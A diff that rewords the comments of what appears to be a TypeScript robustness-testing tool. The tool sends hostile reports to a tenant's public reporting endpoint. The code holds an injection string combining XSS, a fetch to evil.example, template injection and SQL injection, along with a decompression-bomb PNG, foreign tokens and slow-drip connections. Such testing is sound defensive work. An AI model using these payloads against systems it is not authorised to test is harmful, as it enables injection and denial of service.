@@ -2,13 +2,13 @@ import { connect } from 'node:net'
 import { setTimeout as pause } from 'node:timers/promises'
 import sharp from 'sharp'
 
-/** Where the public of a company reports: labels of assets, and the page of a tenant. */
+/** Where a company's public reports come in: asset labels, and a tenant's page. */
 export type Target = { url: string; codes: readonly string[]; tenantToken: string }
 
-/** What came back: how often each status, and what was said to have been made. */
+/** The responses: how often each status, and what was reported as created. */
 export type Harvest = { statuses: Record<number, number>; caseNumbers: Set<number>; photos: number; sent: number }
 
-/** Addresses that it seems to come from. */
+/** Number of simulated client addresses. */
 const PLACES = 64
 const MARKUP =
   '<script>fetch("//evil.example")</script><img src=x onerror=alert(1)>\u202E\u0007{{7*7}}\'; drop table x;--'
@@ -25,7 +25,7 @@ const png = () =>
     .png()
     .toBuffer()
 
-/** A picture of few bytes that says it is 40,000 by 40,000. */
+/** A picture of a few bytes that claims to be 40,000 by 40,000. */
 async function bomb(): Promise<Buffer> {
   const small = await png()
   small.writeUInt32BE(40_000, 16)
@@ -34,9 +34,8 @@ async function bomb(): Promise<Buffer> {
 }
 
 /**
- * Reports as nobody sends them in earnest: markup, lengths beyond every limit, bodies that are none, codes that never were,
- * doubled ones, files that say they are pictures, tokens of others, and lines that send a byte now and then. The same seed
- * sends the same.
+ * Hostile reports: markup, lengths beyond every limit, invalid bodies, unknown codes, duplicates, files posing as
+ * pictures, foreign tokens, and connections that send a byte now and then. The same seed sends the same.
  */
 export async function attack(
   { url, codes, tenantToken }: Target,
@@ -58,7 +57,7 @@ export async function attack(
         'content-type': 'application/json',
         ...more,
       },
-    }).catch(() => undefined) // the server ended it: too much was sent
+    }).catch(() => undefined) // the server closed the connection because too much was sent
     if (!answer) return undefined
     harvest.statuses[answer.status] = (harvest.statuses[answer.status] ?? 0) + 1
     const said = (await answer.json().catch(() => ({}))) as Record<string, unknown>
@@ -130,7 +129,7 @@ export async function attack(
   return harvest
 }
 
-/** Sends the beginning of a report and then a byte now and then; leaves in the middle. */
+/** Sends the start of a report and then a byte now and then; disconnects midway. */
 function slowly(url: string, code: string): Promise<void> {
   const { hostname, port } = new URL(url)
   return new Promise(resolve => {
